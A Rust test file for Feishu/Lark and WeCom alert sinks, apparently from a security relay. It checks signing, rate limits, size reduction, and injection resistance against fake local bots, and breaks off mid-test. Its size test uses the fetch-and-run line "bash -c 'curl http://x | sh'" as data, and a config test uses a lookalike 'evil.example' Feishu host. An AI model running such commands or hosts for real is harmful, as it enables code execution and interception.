//! The Feishu/Lark and WeCom sinks against fakes on 127.0.0.1.
//!
//! Feishu: a fake custom bot on 127.0.0.1 that behaves like Feishu's: it
//! verifies the body signature (timestamp in seconds, HMAC keyed by `timestamp\nsecret` over
//! nothing) when the bot has a secret, checks the keyword, enforces 5 a second and 100 a
//! minute (scaled) answering the real code 11232, refuses bodies over its size limit with 9499
//! and checks the card's shape. Through the real delivery worker on a real store: a storm of
//! alerts arrives folded into digests, every finding exactly once, no 11232.
//!
//! WeCom: a fake group robot that checks the key (93000), enforces 20 a minute (scaled)
//! answering 45009, refuses markdown content over 4,096 bytes with 40058 and checks the shape.
//!
//! No sleeps for synchronisation: waits are on the fake's request log (a `watch` channel bumped
//! on every request), each with a generous timeout that only turns a hang into a failure.

use std::collections::HashMap;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use crate::corpus::{corpus, without_bold_labels};
use crate::sinkkit::{deliver, event_of, finding, hostile, lock, reason, sink, wait_until};
use axum::Router;
use axum::body::Bytes;
use axum::extract::{Path, Query, State};
use axum::routing::post;
use base64::Engine;
use hmac::{Hmac, Mac};
use sasrelay::config::DeliverySettings;
use sasrelay::daemon::tasks;
use sasrelay::event::{Event, OutboxEntry, Payload};
use sasrelay::finding::{Detail, Domain, Severity};
use sasrelay::pipeline::delivery::Worker;
use sasrelay::render::feishu::card_text;
use sasrelay::render::{sample_event, wecom};
use sasrelay::sinks::{Outcome, Sink, SinkConfig};
use sasrelay::store::Store;
use serde_json::{Value, json};
use sha2::Sha256;
use tokio::net::TcpListener;
use tokio::sync::{Notify, watch};
use tokio_util::sync::CancellationToken;

// ---------------------------------------------------------------------------------------------
// The fake Feishu bot

/// How one fake bot behaves.
#[derive(Clone)]
struct BotRules {
    secret: Option<String>,
    keyword: Option<String>,
    /// Most requests in any `second` and in any `minute` (Feishu: 5 in 1 s, 100 in 60 s).
    per_second: usize,
    second: Duration,
    per_minute: usize,
    minute: Duration,
    max_bytes: usize,
}

impl Default for BotRules {
    fn default() -> Self {
        BotRules {
            secret: None,
            keyword: None,
            per_second: 5,
            second: Duration::from_secs(1),
            per_minute: 100,
            minute: Duration::from_secs(60),
            max_bytes: 20_000,
        }
    }
}

/// One request a fake robot received: the robot it named (hook id or key), the code it
/// answered, the body's size and the body.
#[derive(Clone, Debug)]
struct Request {
    robot: String,
    code: i64,
    size: usize,
    body: Value,
}

impl Request {
    /// The message text: a Feishu card's `lark_md`, or WeCom's markdown content.
    fn text(&self) -> String {
        if self.body.get("card").is_some() {
            card_text(&self.body).to_string()
        } else {
            wecom::content(&self.body).to_string()
        }
    }
}

/// What a fake robot server knows: each robot's rules, when each was called, every request.
struct Book<R> {
    rules: HashMap<String, R>,
    seen: HashMap<String, Vec<Instant>>,
    log: Vec<Request>,
}

/// A fake robot server on 127.0.0.1 (Feishu's or WeCom's, by the rules type `R`).
struct Fake<R> {
    book: Arc<Mutex<Book<R>>>,
    bump: Arc<watch::Sender<usize>>,
    addr: SocketAddr,
}

impl<R> Clone for Fake<R> {
    fn clone(&self) -> Self {
        Fake {
            book: self.book.clone(),
            bump: self.bump.clone(),
            addr: self.addr,
        }
    }
}

type FakeFeishu = Fake<BotRules>;
type FakeWeCom = Fake<RobotRules>;

impl<R: Clone + Send + 'static> Fake<R> {
    /// Serves `handler` at `path` for the robots given.
    async fn serve(
        robots: &[(&str, R)],
        path: &str,
        handler: axum::routing::MethodRouter<Fake<R>>,
    ) -> Fake<R> {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let book = Book {
            rules: robots
                .iter()
                .map(|(k, r)| (k.to_string(), r.clone()))
                .collect(),
            seen: HashMap::new(),
            log: Vec::new(),
        };
        let fake = Fake {
            book: Arc::new(Mutex::new(book)),
            bump: Arc::new(watch::channel(0).0),
            addr: listener.local_addr().unwrap(),
        };
        let app = Router::new().route(path, handler).with_state(fake.clone());
        tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
        fake
    }

    /// Answers one request to `robot`: `decide` gets its rules (none for an unknown robot),
    /// the times it was called (this call included) and the parsed body, and returns the
    /// reply with its code under `code_key`; the request is logged and waiters woken.
    fn answer(
        &self,
        robot: String,
        body: &Bytes,
        code_key: &str,
        decide: impl FnOnce(Option<&R>, &[Instant], &Value) -> Value,
    ) -> axum::Json<Value> {
        let parsed: Value = serde_json::from_slice(body).unwrap_or(Value::Null);
        let mut book = lock(&self.book);
        let seen = if book.rules.contains_key(&robot) {
            let seen = book.seen.entry(robot.clone()).or_default();
            seen.push(Instant::now());
            seen.clone()
        } else {
            Vec::new()
        };
        let reply = decide(book.rules.get(&robot), &seen, &parsed);
        book.log.push(Request {
            robot,
            code: reply[code_key].as_i64().unwrap(),
            size: body.len(),
            body: parsed,
        });
        let n = book.log.len();
        drop(book);
        self.bump.send_replace(n);
        axum::Json(reply)
    }

    fn log(&self) -> Vec<Request> {
        lock(&self.book).log.clone()
    }

    async fn wait_for(&self, what: &str, limit: Duration, done: impl Fn(&[Request]) -> bool) {
        wait_until(self.bump.subscribe(), || self.log(), what, limit, done).await;
    }
}

/// Requests within `window` of the last one in `seen`.
fn within(seen: &[Instant], window: Duration) -> usize {
    let now = seen.last().copied().unwrap_or_else(Instant::now);
    seen.iter()
        .filter(|t| now.duration_since(**t) < window)
        .count()
}

/// The signature, computed independently of sasrelay: key = "{ts}\n{secret}", message empty.
fn feishu_sign(secret: &str, ts: &str) -> String {
    let mac = Hmac::<Sha256>::new_from_slice(format!("{ts}\n{secret}").as_bytes()).unwrap();
    base64::engine::general_purpose::STANDARD.encode(mac.finalize().into_bytes())
}

const COLOURS: [&str; 13] = [
    "blue",
    "wathet",
    "turquoise",
    "green",
    "yellow",
    "orange",
    "red",
    "carmine",
    "violet",
    "purple",
    "indigo",
    "grey",
    "default",
];

/// Why a card is malformed, if it is.
fn shape_problem(b: &Value) -> Option<&'static str> {
    if b["msg_type"] != "interactive" {
        return Some("msg_type");
    }
    let card = &b["card"];
    if !card.is_object() {
        return Some("card is not an object");
    }
    let template = card["header"]["template"].as_str().unwrap_or_default();
    if !COLOURS.contains(&template) {
        return Some("header.template");
    }
    if card["header"]["title"]["tag"] != "plain_text"
        || !card["header"]["title"]["content"].is_string()
    {
        return Some("header.title");
    }
    let Some(elements) = card["elements"].as_array() else {
        return Some("elements");
    };
    for e in elements {
        let ok = match e["tag"].as_str() {
            Some("div") => e["text"]["tag"] == "lark_md" && e["text"]["content"].is_string(),
            Some("action") => e["actions"].as_array().is_some_and(|a| {
                a.iter().all(|b| {
                    b["tag"] == "button"
                        && b["text"]["tag"] == "plain_text"
                        && b["url"].as_str().is_some_and(|u| u.starts_with("https://"))
                })
            }),
            Some("note") => e["elements"].is_array(),
            Some("hr") => true,
            _ => false,
        };
        if !ok {
            return Some("element");
        }
    }
    None
}

async fn bot_hook(
    State(fake): State<FakeFeishu>,
    Path(hook): Path<String>,
    body: Bytes,
) -> axum::Json<Value> {
    let size = body.len();
    fake.answer(hook, &body, "code", |rules, seen, parsed| {
        let answer = |code: i64, msg: &str| json!({"code": code, "msg": msg, "data": {}});
        let Some(rules) = rules else {
            return answer(
                19001,
                "param invalid: incoming webhook access token invalid",
            );
        };
        if within(seen, rules.second) > rules.per_second
            || within(seen, rules.minute) > rules.per_minute
        {
            return answer(
                11232,
                "frequency limited psm[lark.oapi.app_platform_runtime]appID[1500]",
            );
        }
        if size > rules.max_bytes || parsed.is_null() {
            return answer(9499, "Bad Request");
        }
        if let Some(secret) = &rules.secret {
            let ts = parsed["timestamp"].as_str().unwrap_or_default();
            let sign = parsed["sign"].as_str().unwrap_or_default();
            let now_s = time::OffsetDateTime::now_utc().unix_timestamp();
            let fresh = ts.parse::<i64>().is_ok_and(|t| (now_s - t).abs() <= 3600);
            if !fresh || sign != feishu_sign(secret, ts) {
                return answer(
                    19021,
                    "sign match fail or timestamp is not within one hour from current time",
                );
            }
        }
        if shape_problem(parsed).is_some() {
            return answer(9499, "Bad Request");
        }
        if let Some(k) = &rules.keyword {
            let title = parsed["card"]["header"]["title"]["content"]
                .as_str()
                .unwrap_or_default();
            if !title.contains(k.as_str()) && !card_text(parsed).contains(k.as_str()) {
                return answer(19024, "Key Words Not Found");
            }
        }
        json!({"StatusCode": 0, "StatusMessage": "success", "code": 0, "data": {}, "msg": "success"})
    })
}

impl FakeFeishu {
    async fn start(bots: &[(&str, BotRules)]) -> FakeFeishu {
        Fake::serve(bots, "/open-apis/bot/v2/hook/{hook}", post(bot_hook)).await
    }

    fn url(&self, hook: &str) -> String {
        format!("http://{}/open-apis/bot/v2/hook/{hook}", self.addr)
    }
}

/// A Feishu sink's TOML: the URL from `FS_URL`, then `extra`.
fn feishu_sink(extra: &str) -> String {
    format!("name = \"fs\"\ntype = \"feishu\"\nurl = {{ env = \"FS_URL\" }}\n{extra}")
}

// ---------------------------------------------------------------------------------------------
// Signing

#[test]
fn feishu_sign_vectors_are_reproduced_and_differ_from_dingtalk() {
    // Copied from tests/fixtures/sinks (computed by the reference implementation).
    let vectors: Value =
        serde_json::from_str(include_str!("../../fixtures/sinks/feishu_sign.json"))
            .expect("vectors");
    let vectors = vectors["vectors"].as_array().unwrap();
    assert!(vectors.len() >= 3, "every vector of the fixture");
    for v in vectors {
        let secret = v["secret"].as_str().unwrap();
        let ts = v["timestamp_s"].as_i64().unwrap();
        let want = v["sign"].as_str().unwrap();
        let got = sasrelay::sinks::feishu::sign(secret, ts);
        assert_eq!(got, want, "{}", v["name"]);
        assert_eq!(feishu_sign(secret, &ts.to_string()), want);
        assert_ne!(got, v["NOT_this_dingtalk_style_value"].as_str().unwrap());
        let example = &v["request_body_example"];
        let body = sasrelay::sinks::feishu::signed_body(
            &json!({"msg_type": example["msg_type"], "content": example["content"]}),
            secret,
            ts,
        );
        assert_eq!(&body, example, "{}", v["name"]);
    }
}

// ---------------------------------------------------------------------------------------------
// Storm

const FS_SECRET: &str = "qNwUZcLm9RbJf3kq2XyTtB";

/// Sends `n` alerts (titled `{prefix} 0000`…, severities cycling) through the real delivery
/// worker on a real store to `s`, waits until the fake has every title, and checks that no
/// request was refused, every title arrived exactly once, the outbox is empty and the backlog
/// was folded. Returns the fake's log.
async fn storm<R: Clone + Send + 'static>(
    fake: &Fake<R>,
    s: Sink,
    prefix: &str,
    n: usize,
) -> Vec<Request> {
    let dir = tempfile::tempdir().unwrap();
    let store = Store::open(dir.path()).unwrap();
    let name = s.name().to_string();
    let titles: Vec<String> = (0..n).map(|i| format!("{prefix} {i:04}")).collect();
    let now_ms = time::OffsetDateTime::now_utc().unix_timestamp() * 1000;
    for (i, t) in titles.iter().enumerate() {
        let e = event_of(finding(i, t, Severity::ALL[i % 5]));
        store
            .enqueue(&name, &OutboxEntry::new(e.into(), now_ms))
            .unwrap();
    }
    let policy = DeliverySettings {
        retry_initial_delay: Duration::from_millis(200),
        ..Default::default()
    };
    let token = CancellationToken::new();
    let worker = Worker::new(Arc::new(s), store.clone(), policy, Arc::new(Notify::new()));
    let task = tokio::spawn(tasks::run(worker, token.clone()));
    let all_there = |log: &[Request]| {
        let text: String = log
            .iter()
            .filter(|r| r.code == 0)
            .map(Request::text)
            .collect();
        titles.iter().all(|t| text.contains(t.as_str()))
    };
    fake.wait_for(
        "every finding delivered",
        Duration::from_secs(120),
        all_there,
    )
    .await;
    token.cancel();
    task.await.unwrap();

    let log = fake.log();
    let refused: Vec<i64> = log.iter().filter(|r| r.code != 0).map(|r| r.code).collect();
    assert!(refused.is_empty(), "refused: {refused:?}");
    let text: String = log.iter().map(Request::text).collect();
    for t in &titles {
        assert_eq!(text.matches(t.as_str()).count(), 1, "{t}");
    }
    assert_eq!(store.depth(&name), 0);
    assert!(
        log.len() < n / 2,
        "{} messages for {n} alerts: not folded",
        log.len()
    );
    eprintln!(
        "storm: {n} alerts -> {} messages, largest body {} bytes",
        log.len(),
        log.iter().map(|r| r.size).max().unwrap_or(0)
    );
    log
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_alert_storm_is_folded_within_the_bot_budget_every_finding_once() {
    // Feishu's numbers scaled by 1/10: 5 per 100 ms and 100 per 6 s. The sink sends one per
    // 65 ms (the default 650 ms scaled the same way).
    let rules = BotRules {
        secret: Some(FS_SECRET.into()),
        keyword: Some("SAS".into()),
        second: Duration::from_millis(100),
        minute: Duration::from_secs(6),
        ..Default::default()
    };
    let fake = FakeFeishu::start(&[("storm", rules)]).await;
    let s = sink(
        &feishu_sink(
            "secret = { env = \"FS_SECRET\" }\nkeyword = \"SAS\"\nat_user_ids = [\"ou_oncall\"]\nmention_min_severity = \"high\"\nrate_limit = { period = \"65ms\", burst = 1 }\n",
        ),
        &[("FS_URL", &fake.url("storm")), ("FS_SECRET", FS_SECRET)],
    );
    let log = storm(&fake, s, "storm finding", 200).await;
    // Every message has critical or high members (a digest of 20 of the five severities), so
    // every one mentions the configured user, and only that user.
    for r in &log {
        assert!(r.text().contains("<at id=ou_oncall></at>"), "{}", r.text());
        assert_eq!(r.text().matches("<at ").count(), 1);
        assert_eq!(r.body["card"]["header"]["template"], "red");
    }
}

// ---------------------------------------------------------------------------------------------
// Classification

#[tokio::test]
async fn refusals_are_permanent_with_a_hint_and_never_leak_the_hook_id() {
    let fake = FakeFeishu::start(&[
        (
            "h-signed-42",
            BotRules {
                secret: Some("right-secret".into()),
                ..Default::default()
            },
        ),
        (
            "h-kw-17",
            BotRules {
                keyword: Some("告警关键词".into()),
                ..Default::default()
            },
        ),
    ])
    .await;
    let p: Payload = sample_event(Domain::Alerts).into();
    let fast = "rate_limit = { period = \"1ms\" }\n";
    let cases = [
        ("h-unknown-91", "", "`url`", 19001),
        (
            "h-signed-42",
            "secret = { env = \"FS_SECRET\" }\n",
            "`secret`",
            19021,
        ),
        ("h-signed-42", "", "`secret`", 19021),
        ("h-kw-17", "", "`keyword`", 19024),
    ];
    for (hook, extra, hint, code) in cases {
        let s = sink(
            &feishu_sink(&format!("{fast}{extra}")),
            &[("FS_URL", &fake.url(hook)), ("FS_SECRET", "wrong-secret")],
        );
        let o = deliver(&s, &p).await;
        let text = reason(&o);
        assert!(matches!(o, Outcome::Permanent { .. }), "{hook}: {text}");
        assert!(text.contains(hint), "{hook}: {text}");
        assert!(text.contains(&format!("code {code}")), "{hook}: {text}");
        assert!(!text.contains(hook), "hook id leaked: {text}");
        assert!(!text.contains("wrong-secret"), "secret leaked: {text}");
    }
    // With the keyword configured, the same bot takes the message.
    let s = sink(
        &feishu_sink(&format!("{fast}keyword = \"告警关键词\"\n")),
        &[("FS_URL", &fake.url("h-kw-17"))],
    );
    let o = deliver(&s, &p).await;
    assert!(o.is_delivered(), "{}", reason(&o));
    let last = fake.log().pop().unwrap();
    assert!(last.text().contains("告警关键词"));
}

#[tokio::test]
async fn frequency_limited_is_a_retry_and_too_large_renders_smaller() {
    let fake = FakeFeishu::start(&[
        (
            "tight",
            BotRules {
                per_second: 0,
                ..Default::default()
            },
        ),
        (
            "small",
            BotRules {
                max_bytes: 4000,
                ..Default::default()
            },
        ),
    ])
    .await;
    let mut f = finding(1, "big", Severity::High);
    f.details = (0..20)
        .map(|k| Detail {
            name: format!("field {k}"),
            value: "v".repeat(500),
        })
        .collect();
    let p: Payload = event_of(f).into();
    let s = sink(
        &feishu_sink("rate_limit = { period = \"1ms\" }\n"),
        &[("FS_URL", &fake.url("tight"))],
    );
    match deliver(&s, &p).await {
        Outcome::Retry { after, reason } => {
            assert!(reason.contains("11232"), "{reason}");
            assert!(after.is_some_and(|a| a >= Duration::from_secs(1)));
        }
        other => panic!("{other:?}"),
    }

    let s = sink(
        &feishu_sink("rate_limit = { period = \"1ms\" }\n"),
        &[("FS_URL", &fake.url("small"))],
    );
    let mut outcomes = Vec::new();
    for _ in 0..5 {
        let o = deliver(&s, &p).await;
        let done = o.is_delivered();
        outcomes.push(reason(&o));
        if done {
            break;
        }
    }
    assert!(
        outcomes
            .last()
            .unwrap()
            .starts_with("accepted by the Feishu bot"),
        "{outcomes:?}"
    );
    assert!(outcomes.len() > 1, "the first body fit: {outcomes:?}");
    assert!(outcomes[0].contains("9499") && outcomes[0].contains("level 1"));
    let log = fake.log();
    let sizes: Vec<usize> = log
        .iter()
        .filter(|r| r.robot == "small")
        .map(|r| r.size)
        .collect();
    assert!(sizes.windows(2).all(|w| w[1] < w[0]), "{sizes:?}");
    assert!(*sizes.last().unwrap() <= 4000);
}

// ---------------------------------------------------------------------------------------------
// Untrusted text and sizes

/// Every string in a JSON value.
fn strings(v: &Value, out: &mut Vec<String>) {
    match v {
        Value::String(s) => out.push(s.clone()),
        Value::Array(a) => a.iter().for_each(|x| strings(x, out)),
        Value::Object(o) => o.values().for_each(|x| strings(x, out)),
        _ => {}
    }
}

#[tokio::test]
async fn injection_corpus_adds_no_mention_link_or_markup() {
    let rules = BotRules {
        per_second: 1_000_000,
        per_minute: 1_000_000,
        ..Default::default()
    };
    let fake = FakeFeishu::start(&[("inj", rules)]).await;
    let s = sink(
        &feishu_sink("at_user_ids = [\"ou_configured\"]\nrate_limit = { period = \"1ms\" }\n"),
        &[("FS_URL", &fake.url("inj"))],
    );
    let corpus = corpus();
    for (i, entry) in corpus.iter().enumerate() {
        let o = deliver(&s, &hostile(i, entry)).await;
        assert!(o.is_delivered(), "entry {i}: {}", reason(&o));
    }
    let log = fake.log();
    assert_eq!(log.len(), corpus.len());
    let trusted = sample_event(Domain::Alerts).finding.unwrap().links;
    for (i, r) in log.iter().enumerate() {
        let what = format!(
            "entry {i} ({:?})",
            corpus[i].chars().take(40).collect::<String>()
        );
        assert!(r.size <= 20_000, "{what}");
        let text = r.text();
        let mention = "<at id=ou_configured></at>";
        assert_eq!(text.matches(mention).count(), 1, "{what}: {text}");
        let rest = without_bold_labels(&text.replace(mention, ""));
        for bad in ["<", ">", "[", "]", "`", "~", "*", "@", "://", "&lt;", "&#"] {
            assert!(!rest.contains(bad), "{what}: {bad:?} in {rest}");
        }
        // plain_text parts (header, buttons, note): no tags, mentions or live links.
        let mut plain = Vec::new();
        strings(&r.body["card"]["header"], &mut plain);
        strings(&r.body["card"]["elements"][2], &mut plain);
        for b in r.body["card"]["elements"][1]["actions"]
            .as_array()
            .into_iter()
            .flatten()
        {
            strings(&b["text"], &mut plain);
            let url = b["url"].as_str().unwrap();
            assert!(
                trusted.iter().any(|l| l.url == url),
                "{what}: untrusted button {url}"
            );
        }
        for p in &plain {
            for bad in ["<", ">", "@", "://"] {
                assert!(!p.contains(bad), "{what}: {bad:?} in {p}");
            }
            assert!(!p.chars().any(char::is_control), "{what}: control in {p:?}");
        }
    }
}

#[tokio::test]
async fn cjk_emoji_and_huge_command_lines_stay_within_the_limit() {
    let rules = BotRules {
        secret: Some(FS_SECRET.into()),
        per_second: 1_000_000,
        per_minute: 1_000_000,
        ..Default::default()
    };
    let fake = FakeFeishu::start(&[("big", rules)]).await;
    let s = sink(
        &feishu_sink(
            "secret = { env = \"FS_SECRET\" }\nlang = \"zh\"\nrate_limit = { period = \"1ms\" }\n",
        ),
        &[("FS_URL", &fake.url("big")), ("FS_SECRET", FS_SECRET)],
    );
    let alphabets = [
        ("ascii", "bash -c 'curl http://x | sh' ".repeat(4000)),
        ("cjk", "异常登录进程命令行".repeat(12_000)),
        ("emoji", "😀🔥🚨".repeat(9000)),
        ("mixed", "a异😀\"\\\n".repeat(15_000)),
    ];
    for (i, (name, s100k)) in alphabets.iter().enumerate() {
        assert!(s100k.len() >= 100_000, "{name}");
        let mut f = finding(i, s100k, Severity::Critical);
        f.description = s100k.clone();
        f.details = (0..40)
            .map(|k| Detail {
                name: format!("命令行 {k}"),
                value: s100k.clone(),
            })
            .collect();
        f.cves = (0..50).map(|k| format!("CVE-2024-{k:05}")).collect();
        let p: Payload = event_of(f).into();
        let o = deliver(&s, &p).await;
        assert!(o.is_delivered(), "{name}: {}", reason(&o));
        let r = fake.log().pop().unwrap();
        assert!(r.size <= 20_000, "{name}: {} bytes", r.size);
        assert!(r.text().contains("异常") || *name != "cjk", "{name}");
    }
    // A digest of 100 huge members too.
    let members: Vec<Event> = (0..100)
        .map(|i| event_of(finding(100 + i, &alphabets[1].1, Severity::High)))
        .collect();
    let d = sasrelay::event::Digest::new(
        "backlog",
        Default::default(),
        members,
        time::OffsetDateTime::now_utc(),
    );
    let o = deliver(&s, &d.into()).await;
    assert!(o.is_delivered(), "{}", reason(&o));
    assert!(fake.log().pop().unwrap().size <= 20_000);
}

// ---------------------------------------------------------------------------------------------
// Configuration

#[test]
fn config_errors_name_the_key_and_position() {
    let text = "[[source]]\nname = \"prod\"\nregion = \"cn-hangzhou\"\ncredentials = { type = \"access_key\", access_key_id = \"LTAI\", access_key_secret = { env = \"NOT_NEEDED\" } }\n\n\
                [[sink]]\nname = \"fs\"\ntype = \"feishu\"\n\n\
                [[sink]]\nname = \"fs2\"\ntype = \"feishu\"\nurl = \"https://open.feishu.cn.evil.example/open-apis/bot/v2/hook/x\"\n\n\
                [[sink]]\nname = \"fs3\"\ntype = \"feishu\"\nurl = { env = \"FS\" }\nat_mobiles = [\"1380000\"]\n\n\
                [[sink]]\nname = \"fs4\"\ntype = \"feishu\"\nurl = { env = \"FS\" }\nat_user_ids = [\"ou_ok\", \"<at id=all>\"]\nrate_limit = { period = \"0s\" }\n";
    let path = std::path::Path::new("/etc/sasrelay/fs.toml");
    let errs = sasrelay::config::parse(path, text).unwrap_err();
    let shown = errs.to_string();
    let find = |key: &str| {
        errs.0
            .iter()
            .find(|e| e.key.starts_with(key))
            .unwrap_or_else(|| panic!("no error for {key}:\n{shown}"))
    };
    let missing = find("sink[0]");
    assert!(missing.message.contains("url"), "{shown}");
    assert_eq!((missing.line, missing.column > 0), (6, true), "{shown}");
    let host = find("sink[1].url");
    assert!(
        host.message.contains("not a Feishu or Lark bot host"),
        "{shown}"
    );
    assert!(host.line >= 10, "{shown}");
    let unknown = find("sink[2]");
    assert!(
        unknown.message.contains("unknown key `at_mobiles`"),
        "{shown}"
    );
    let id = find("sink[3].at_user_ids[1]");
    assert!(id.line > unknown.line, "{shown}");
    find("sink[3].rate_limit.period");
    assert!(
        shown.contains("/etc/sasrelay/fs.toml:6:"),
        "file:line:col in {shown}"
    );

    // A secret URL is checked when the sink is built, without being echoed.
    let c: SinkConfig =
        toml::from_str("name = \"fs\"\ntype = \"feishu\"\nurl = { env = \"FS\" }\n").unwrap();
    let e = Sink::build_with(&c, |_| {
        Some("https://hooks.example/open-apis/bot/v2/hook/SECRET-HOOK-ID".into())
    })
    .unwrap_err();
    assert!(e.contains("url") && e.contains("hooks.example"), "{e}");
    assert!(!e.contains("SECRET-HOOK-ID"), "{e}");
    let e = Sink::build_with(&c, |_| None).unwrap_err();
    assert!(e.contains("url"), "{e}");
}

#[tokio::test]
async fn preview_is_the_unsigned_card_and_mentions_follow_the_threshold() {
    let c: SinkConfig = toml::from_str(
        "name = \"fs\"\ntype = \"feishu\"\nurl = { env = \"FS\" }\nsecret = { env = \"S\" }\nat_all = true\nmention_min_severity = \"critical\"\n",
    )
    .unwrap();
    let s = Sink::build_with(&c, |k| {
        Some(match k {
            "FS" => "https://open.larksuite.com/open-apis/bot/v2/hook/abc".into(),
            _ => "sec".into(),
        })
    })
    .unwrap();
    assert!(s.fold().is_some());
    let mut e = sample_event(Domain::Alerts);
    e.finding.as_mut().unwrap().severity = Severity::High;
    let body: Value = serde_json::from_str(&s.preview(&e.clone().into()).unwrap()).unwrap();
    assert!(body.get("sign").is_none() && body.get("timestamp").is_none());
    assert!(!card_text(&body).contains("<at"), "below the threshold");
    e.finding.as_mut().unwrap().severity = Severity::Critical;
    let body: Value = serde_json::from_str(&s.preview(&e.into()).unwrap()).unwrap();
    assert!(card_text(&body).ends_with("<at id=all></at>"));
    assert_eq!(body["card"]["header"]["template"], "red");
    let debug = format!("{s:?}");
    assert!(
        !debug.contains("abc") && !debug.contains("sec\""),
        "{debug}"
    );
}

// ---------------------------------------------------------------------------------------------
// The fake WeCom robot

/// How one fake WeCom robot behaves.
#[derive(Clone)]
struct RobotRules {
    /// Most requests in any `window` (WeCom: 20 a minute); beyond, 45009.
    limit: usize,
    window: Duration,
    /// Longest `markdown.content` in bytes; beyond, 40058.
    max_content: usize,
}

impl Default for RobotRules {
    fn default() -> Self {
        RobotRules {
            limit: 20,
            window: Duration::from_secs(60),
            max_content: 4096,
        }
    }
}

async fn robot_send(
    State(fake): State<FakeWeCom>,
    Query(q): Query<HashMap<String, String>>,
    body: Bytes,
) -> axum::Json<Value> {
    let key = q.get("key").cloned().unwrap_or_default();
    fake.answer(key, &body, "errcode", |rules, seen, parsed| {
        let answer = |code: i64, msg: &str| {
            json!({"errcode": code, "errmsg": format!("{msg}, hint: [1755605200056773468916791], more info at https://open.work.weixin.qq.com/devtool/query?e={code}")})
        };
        let Some(rules) = rules else {
            return answer(93000, "invalid webhook url");
        };
        if within(seen, rules.window) > rules.limit {
            return answer(45009, "api freq out of limit");
        }
        let content = parsed["markdown"]["content"].as_str();
        let Some(content) = content.filter(|_| parsed["msgtype"] == "markdown") else {
            return answer(40008, "invalid message type");
        };
        if content.len() > rules.max_content {
            return answer(40058, "markdown.content exceed max length 4096");
        }
        json!({"errcode": 0, "errmsg": "ok"})
    })
}

impl FakeWeCom {
    async fn start(robots: &[(&str, RobotRules)]) -> FakeWeCom {
        Fake::serve(robots, "/cgi-bin/webhook/send", post(robot_send)).await
    }

    fn url(&self, key: &str) -> String {
        format!("http://{}/cgi-bin/webhook/send?key={key}", self.addr)
    }
}

/// A WeCom sink's TOML: the URL from `WC_URL`, then `extra`.
fn wecom_sink(extra: &str) -> String {
    format!("name = \"wc\"\ntype = \"wecom\"\nurl = {{ env = \"WC_URL\" }}\n{extra}")
}

// ---------------------------------------------------------------------------------------------
// WeCom

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn wecom_storm_is_folded_within_the_robot_budget_every_finding_once() {
    // WeCom's 20 a minute scaled by 1/100: 20 per 600 ms; the sink sends one per 40 ms (15 per
    // 600 ms), as the default 3 s keeps to WeCom's 20 a minute. Digests of 5 make 40 messages,
    // more than one window allows, so an unlimited sender would meet 45009.
    let rules = RobotRules {
        window: Duration::from_millis(600),
        ..Default::default()
    };
    let fake = FakeWeCom::start(&[("storm-key", rules)]).await;
    let s = sink(
        &wecom_sink(
            "at_user_ids = [\"zhangsan\"]\nfold_max_members = 5\nrate_limit = { period = \"40ms\", burst = 1 }\n",
        ),
        &[("WC_URL", &fake.url("storm-key"))],
    );
    let log = storm(&fake, s, "wecom storm", 200).await;
    for r in &log {
        assert!(r.text().len() <= 4096);
        assert!(r.text().ends_with("<@zhangsan>"), "{}", r.text());
        assert!(r.body.get("mentioned_list").is_none());
    }
}

#[tokio::test]
async fn wecom_answers_are_classified_and_never_leak_the_key() {
    let fake = FakeWeCom::start(&[
        (
            "tight-key",
            RobotRules {
                limit: 0,
                ..Default::default()
            },
        ),
        (
            "small-key",
            RobotRules {
                max_content: 1200,
                ..Default::default()
            },
        ),
    ])
    .await;
    let p: Payload = sample_event(Domain::Vulnerabilities).into();
    let fast = "rate_limit = { period = \"1ms\" }\n";
    let s = sink(&wecom_sink(fast), &[("WC_URL", &fake.url("no-such-key"))]);
    let o = deliver(&s, &p).await;
    let text = reason(&o);
    assert!(matches!(o, Outcome::Permanent { .. }), "{text}");
    assert!(text.contains("93000") && text.contains("`url`"), "{text}");
    assert!(!text.contains("no-such-key"), "key leaked: {text}");

    let s = sink(&wecom_sink(fast), &[("WC_URL", &fake.url("tight-key"))]);
    match deliver(&s, &p).await {
        Outcome::Retry { after, reason } => {
            assert!(reason.contains("45009"), "{reason}");
            assert_eq!(after, Some(Duration::from_secs(60)));
            assert!(!reason.contains("tight-key"), "{reason}");
        }
        other => panic!("{other:?}"),
    }

    // 40058: each attempt renders smaller until WeCom takes it.
    let s = sink(&wecom_sink(fast), &[("WC_URL", &fake.url("small-key"))]);
    let mut outcomes = Vec::new();
    for _ in 0..5 {
        let o = deliver(&s, &p).await;
        let done = o.is_delivered();
        outcomes.push(reason(&o));
        if done {
            break;
        }
    }
    assert!(
        outcomes
            .last()
            .unwrap()
            .starts_with("accepted by the WeCom robot"),
        "{outcomes:?}"
    );
    assert!(outcomes[0].contains("40058"), "{outcomes:?}");
    let sizes: Vec<usize> = fake
        .log()
        .iter()
        .filter(|r| r.robot == "small-key")
        .map(|r| r.text().len())
        .collect();
    // Each attempt is below the size refused before it, even where a level's budget alone
    // would not bind: never the same body twice.
    assert!(sizes.windows(2).all(|w| w[1] < w[0]), "{sizes:?}");
    assert!(*sizes.last().unwrap() <= 1200, "{sizes:?}");
}

#[tokio::test]
async fn wecom_injection_corpus_adds_no_mention_link_colour_or_markup() {
    let rules = RobotRules {
        limit: 1_000_000,
        ..Default::default()
    };
    let fake = FakeWeCom::start(&[("inj", rules)]).await;
    let s = sink(
        &wecom_sink("at_user_ids = [\"configured\"]\nrate_limit = { period = \"1ms\" }\n"),
        &[("WC_URL", &fake.url("inj"))],
    );
    let corpus = corpus();
    for (i, entry) in corpus.iter().enumerate() {
        let o = deliver(&s, &hostile(i, entry)).await;
        assert!(o.is_delivered(), "entry {i}: {}", reason(&o));
    }
    let log = fake.log();
    assert_eq!(log.len(), corpus.len());
    let trusted: Vec<String> = sample_event(Domain::Alerts)
        .finding
        .unwrap()
        .links
        .into_iter()
        .map(|l| l.url)
        .collect();
    for (i, r) in log.iter().enumerate() {
        let what = format!(
            "entry {i} ({:?})",
            corpus[i].chars().take(40).collect::<String>()
        );
        let text = r.text();
        assert!(text.len() <= 4096, "{what}");
        assert_eq!(text.matches("<@").count(), 1, "{what}: {text}");
        assert!(text.ends_with("<@configured>"), "{what}");
